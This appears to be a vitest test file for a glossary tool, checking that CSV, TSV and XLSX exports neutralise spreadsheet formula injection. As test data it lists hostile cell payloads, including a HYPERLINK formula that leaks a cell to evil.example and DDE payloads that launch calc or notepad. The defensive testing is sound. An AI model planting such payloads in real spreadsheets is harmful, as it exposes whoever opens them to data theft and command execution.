/**
 * Formula injection (issue 13, item 8): glossary CSV and OmegaT TSV exports never hand a
 * spreadsheet a cell it would run, and reading the export back gives the exact entries — hostile
 * formulas and ordinary text such as "-5 °C" or "+91" alike. XLSX: our export writes text cells
 * (never formulas), and an imported formula cell is a row error naming the file, sheet and cell.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { exportGlossary, parseGlossary, neutraliseFormulaCell, restoreFormulaCell } from '../../glossary/formats/index.ts';
import type { Glossary, GlossaryEntry } from '../../glossary/model.ts';

const now = '2026-12-07T09:00:00.000Z';
const opts = { now, author: 'desk' };

/** Cells a spreadsheet runs: OWASP's list, the two payloads of the issue, and look-alikes of ordinary text. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the style guide")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];
/** Ordinary text that starts with the same characters and must survive exactly. */
const ORDINARY = ['-5 °C', '+91 98765 43210', '@PMOIndia', "'=already quoted", "''+twice", "'quote only", '= बराबर'];
const DANGER = /^[=+\-@\t\r]/;

function entry(index: number, source: string, target: string, note: string): GlossaryEntry {
  return {
    id: `e${index}`, source, sourceVariants: [], target, targetAlternates: [], forbidden: [], type: 'term',
    caseSensitive: false, matchMode: 'inflected', note, status: 'approved', createdAt: now, updatedAt: now, author: 'desk',
  };
}

/** One entry per hostile/ordinary text, in the target and the note, with a Hindi source (and one in the source). */
function hostileGlossary(): Glossary {
  const texts = [...HOSTILE.filter((text) => !/^[\t\r]/.test(text)), ...ORDINARY];
  const entries = texts.map((text, index) => entry(index, `तापमान ${index}`, text, text));
  entries.push(entry(texts.length, '-5 डिग्री', 'minus five degrees', '+91 is the country code'));
  return { schemaVersion: 1, entries } as Glossary;
}

const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

describe('neutraliseFormulaCell / restoreFormulaCell', () => {
  it('puts a quote before every cell a spreadsheet would run, and restoring gives it back', () => {
    for (const text of HOSTILE) {
      const written = neutraliseFormulaCell(text);
      expect(written).toBe(`'${text}`);
      expect(written).not.toMatch(DANGER);
      expect(restoreFormulaCell(written)).toBe(text);
    }
  });

  it('leaves ordinary cells alone and round-trips every string exactly (fast-check)', () => {
    expect(neutraliseFormulaCell('Kim Jong Un')).toBe('Kim Jong Un');
    expect(neutraliseFormulaCell("'quote only")).toBe("'quote only");
    expect(neutraliseFormulaCell("'=x")).toBe("''=x");
    const cell = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', 'क', ' ') }));
    fc.assert(fc.property(cell, (text) => {
      const written = neutraliseFormulaCell(text);
      expect(written).not.toMatch(DANGER);
      expect(restoreFormulaCell(written)).toBe(text);
    }), { numRuns: 500 });
  });
});

describe('glossary CSV and OmegaT TSV exports', () => {
  it('CSV: no cell starts with = + - @ tab or CR, and the import gives back the exact entries', async () => {
    const glossary = hostileGlossary();
    const bytes = await exportGlossary(glossary, 'csv');
    const rows = parse(decode(bytes), { bom: true }) as string[][];
    expect(rows.length).toBe(glossary.entries.length + 1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGER);
    const back = await parseGlossary(bytes, 'hostile.csv', opts);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => [e.source, e.target, e.note])).toEqual(glossary.entries.map((e) => [e.source, e.target, e.note]));
  });

  it('OmegaT TSV: no column starts with a formula character, and the import gives back the exact terms', async () => {
    const glossary = hostileGlossary();
    glossary.entries[0].sourceVariants = ['-पांच'];
    glossary.entries[0].targetAlternates = ['+91'];
    const bytes = await exportGlossary(glossary, 'omegat');
    for (const line of decode(bytes).split('\n').filter(Boolean)) {
      for (const column of line.split('\t')) expect(column).not.toMatch(DANGER);
    }
    const back = await parseGlossary(bytes, 'hostile.txt', opts);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => [e.source, e.sourceVariants, e.target, e.targetAlternates, e.note]))
      .toEqual(glossary.entries.map((e) => [e.source, e.sourceVariants, e.target, e.targetAlternates, e.note]));
  });

  it('a CSV from another tool with quoted formulas imports without the quote', async () => {
    const csv = "source,variants,target,forbidden,type,note\r\nतापमान,,'-5 °C,,term,'=not a formula\r\nकोड,,+91,,term,\r\n";
    const back = await parseGlossary(new TextEncoder().encode(csv), 'other.csv', opts);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => [e.target, e.note])).toEqual([['-5 °C', '=not a formula'], ['+91', '']]);
  });
});

describe('XLSX', () => {
  it('our export writes hostile text as text cells, never as formulas, and reads it back exactly', async () => {
    const glossary = hostileGlossary();
    const bytes = await exportGlossary(glossary, 'xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    for (let row = 2; row <= sheet.rowCount; row++) {
      sheet.getRow(row).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    }
    const back = await parseGlossary(bytes, 'hostile.xlsx', opts);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => [e.target, e.note])).toEqual(glossary.entries.map((e) => [e.target, e.note]));
  });

  it('a formula cell, with or without a cached value, is a row error naming the file, sheet, row and cell', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Terms');
    sheet.addRow(['source', 'target', 'note']);
    sheet.addRow(['मॉस्को', 'Moscow', 'fine']);
    sheet.addRow(['कीव', { formula: 'HYPERLINK("http://evil.example","Kyiv")', result: 'Kyiv' }, '']);
    sheet.addRow(['पुतिन', 'Putin', { formula: "cmd|' /C calc'!A0" }]);
    sheet.addRow(['शी', { error: '#REF!' }, '']);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const read = await parseGlossary(bytes, 'terms.xlsx', opts);
    const errors = read.problems.filter((p) => p.severity === 'error');
    expect(errors.map((p) => [p.file, p.line])).toEqual([['terms.xlsx', 3], ['terms.xlsx', 4], ['terms.xlsx', 5]]);
    expect(errors[0].message).toContain('sheet "Terms", row 3: cell B3 ("target") holds the formula =HYPERLINK("http://evil.example","Kyiv")');
    expect(errors[1].message).toContain('sheet "Terms", row 4: cell C4 ("note") holds the formula =cmd|');
    expect(errors[2].message).toContain('cell B5 ("target") holds the error value #REF!');
    for (const problem of read.problems) expect(problem.message).not.toContain('[object Object]');
    expect(read.entries.map((e) => e.target)).toEqual(['Moscow']);
  });
});
